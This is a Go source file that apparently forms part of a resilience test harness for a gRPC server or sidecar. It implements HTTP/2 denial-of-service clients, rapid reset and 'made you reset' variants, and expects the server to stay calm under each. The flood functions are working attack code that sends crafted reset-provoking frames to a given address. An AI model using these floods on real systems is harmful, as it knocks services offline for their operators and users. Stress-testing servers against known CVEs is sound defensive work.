package attack

import (
	"context"
	"slices"

	"golang.org/x/net/http2"
)

// clientResets are the ways to have RPCs begun and thrown away at once, which
// SETTINGS_MAX_CONCURRENT_STREAMS does not bound: the client resets its streams
// (CVE-2023-44487), or has the sidecar do it ("made you reset", CVE-2025-8671).
func clientResets() []Client {
	return []Client{
		{
			Name: "rapid reset", What: "opens streams and resets each at once",
			Want: []string{calm}, Memory: ordinary, Run: rapidReset(1),
		},
		{
			Name: "rapid reset in waves", What: "opens 100 streams, then resets them, and again",
			Want: []string{calm}, Memory: ordinary, Run: rapidReset(100),
		},
		{
			Name: "reset by a WINDOW_UPDATE of zero", What: "has each stream reset by a WINDOW_UPDATE of 0 (RFC 9113 section 6.9)",
			Want: []string{calm}, Memory: ordinary,
			Run: madeYouReset(func(p []byte, stream uint32) []byte { return appendWindow(p, stream, 0) }),
		},
		{
			Name: "reset by an overflow of the window", What: "has each stream reset by a WINDOW_UPDATE above 2^31-1 (section 6.9.1)",
			Want: []string{calm}, Memory: ordinary,
			Run: madeYouReset(func(p []byte, stream uint32) []byte { return appendWindow(p, stream, 1<<31-1) }),
		},
		{
			Name: "reset by DATA after the end", What: "has each stream reset by DATA after END_STREAM (section 5.1)",
			Want: []string{calm}, Memory: ordinary,
			Run: madeYouReset(func(p []byte, stream uint32) []byte {
				p = appendFrame(p, http2.FrameData, http2.FlagDataEndStream, stream, emptyMessage)

				return appendFrame(p, http2.FrameData, 0, stream, emptyMessage)
			}),
		},
		{
			Name: "reset by HEADERS after the end", What: "has each stream reset by HEADERS after END_STREAM (section 5.1)",
			Want: []string{calm}, Memory: ordinary,
			Run: madeYouReset(func(p []byte, stream uint32) []byte {
				p = appendFrame(p, http2.FrameData, http2.FlagDataEndStream, stream, emptyMessage)

				return appendRequest(p, wholeLast, stream, appendLiteral(nil, "late", "yes"))
			}),
		},
		{
			Name: "reset by a PRIORITY of itself", What: "has each stream reset by a PRIORITY that depends on itself",
			Want: []string{calm}, Memory: ordinary,
			Run: madeYouReset(func(p []byte, stream uint32) []byte {
				return append(appendHeader(p, 5, http2.FramePriority, 0, stream),
					byte(stream>>24), byte(stream>>16), byte(stream>>8), byte(stream), 1)
			}),
		},
		{
			Name: "reset by a PRIORITY of a wrong length", What: "has each stream reset by a PRIORITY of 4 octets (section 6.3)",
			Want: []string{calm}, Memory: ordinary,
			Run: madeYouReset(func(p []byte, stream uint32) []byte {
				return append(appendHeader(p, 4, http2.FramePriority, 0, stream), 0, 0, 0, 0)
			}),
		},
		{
			Name: "reset by trailers that do not end", What: "has each stream reset by trailers without END_STREAM (section 8.1)",
			Want: []string{calm}, Memory: ordinary,
			Run: madeYouReset(func(p []byte, stream uint32) []byte {
				return appendRequest(p, whole, stream, appendLiteral(nil, "a", "b"))
			}),
		},
		{
			Name: "reset by malformed trailers", What: "has each stream reset by trailers with a pseudo-header field (section 8.1)",
			Want: []string{calm}, Memory: ordinary,
			Run: madeYouReset(func(p []byte, stream uint32) []byte {
				return appendRequest(p, wholeLast, stream, []byte{0x83})
			}),
		},
		{
			Name: "reset by a content-length too small", What: "has each stream reset by DATA above its content-length (section 8.1.1)",
			Want: []string{calm}, Memory: ordinary,
			Run: madeYouReset(func(p []byte, stream uint32) []byte {
				return appendFrame(p, http2.FrameData, 0, stream, emptyMessage)
			}, "content-length", "1"),
		},
		{
			Name: "reset by a content-length too large", What: "has each stream reset by an end below its content-length (section 8.1.1)",
			Want: []string{calm}, Memory: ordinary,
			Run: madeYouReset(func(p []byte, stream uint32) []byte {
				return appendFrame(p, http2.FrameData, http2.FlagDataEndStream, stream, emptyMessage)
			}, "content-length", "1000"),
		},
		{
			Name: "reset by DATA above the window", What: "has each stream reset by more DATA than its window (section 6.9.1)",
			Want: []string{calm, flow}, Memory: budgeted, Run: madeYouReset(overfill),
		},
		{
			Name: "malformed requests", What: "sends requests with an upper case field name (section 8.2.1)",
			Want: []string{calm}, Memory: ordinary, Run: madeYouReset(nothing, "Upper", "case"),
		},
		{
			Name: "requests that depend on themselves", What: "sends HEADERS whose priority depends on itself",
			Want: []string{calm}, Memory: ordinary, Run: selfDependent,
		},
		{
			Name: "more streams than allowed", What: "opens streams beyond SETTINGS_MAX_CONCURRENT_STREAMS, and ends none",
			Want: []string{calm}, Memory: ordinary, Run: madeYouReset(nothing),
		},
		{
			Name: "deadlines that have passed", What: "sends RPCs whose timeout is a nanosecond",
			Want: []string{answered, held, refused, calm}, Memory: ordinary, Lasts: true, Run: madeYouReset(nothing, "grpc-timeout", "1n"),
		},
		{
			Name: "resets of streams that are over", What: "resets one stream again and again",
			Want: []string{calm}, Memory: ordinary, Run: resetAgain,
		},
	}
}

func nothing(p []byte, _ uint32) []byte { return p }

// rapidReset opens and resets streams in waves.
func rapidReset(wave int) func(context.Context, string) (End, error) {
	return func(ctx context.Context, address string) (End, error) {
		c, err := greet(ctx, address)
		if err != nil {
			return End{}, err
		}
		block, ids := request(MethodHang), streams{}
		c.flood(ctx, func(p []byte) []byte {
			var opened []uint32
			for range wave {
				id := ids.next()
				opened = append(opened, id)
				p = appendRequest(p, whole, id, block)
			}
			for _, id := range opened {
				p = appendReset(p, id)
			}

			return p
		})

		return c.end(), nil
	}
}

// madeYouReset opens streams of RPCs that hang, with further fields, and does to
// each what has the sidecar end it.
func madeYouReset(offend func(p []byte, stream uint32) []byte, extra ...string) func(context.Context, string) (End, error) {
	return func(ctx context.Context, address string) (End, error) {
		c, err := greet(ctx, address)
		if err != nil {
			return End{}, err
		}
		block, ids := request(MethodHang, extra...), streams{}
		c.flood(ctx, func(p []byte) []byte {
			id := ids.next()

			return offend(appendRequest(p, whole, id, block), id)
		})

		return c.end(), nil
	}
}

// overfill appends more DATA than the window of a stream that nobody reads.
func overfill(p []byte, stream uint32) []byte {
	const frame = 16 << 10
	for range 5 {
		p = appendHeader(p, frame, http2.FrameData, 0, stream)
		p = slices.Grow(p, frame)[:len(p)+frame]
	}

	return p
}

func selfDependent(ctx context.Context, address string) (End, error) {
	c, err := greet(ctx, address)
	if err != nil {
		return End{}, err
	}
	block, ids := request(MethodHang), streams{}
	c.flood(ctx, func(p []byte) []byte {
		id := ids.next()
		p = appendHeader(p, 5+len(block), http2.FrameHeaders, whole|http2.FlagHeadersPriority, id)
		p = append(p, byte(id>>24), byte(id>>16), byte(id>>8), byte(id), 1)

		return append(p, block...)
	})

	return c.end(), nil
}

func resetAgain(ctx context.Context, address string) (End, error) {
	c, err := greet(ctx, address)
	if err != nil {
		return End{}, err
	}
	_ = c.write(appendRequest(nil, whole, 1, request(MethodHang)))
	c.flood(ctx, func(p []byte) []byte { return appendReset(p, 1) })

	return c.end(), nil
}
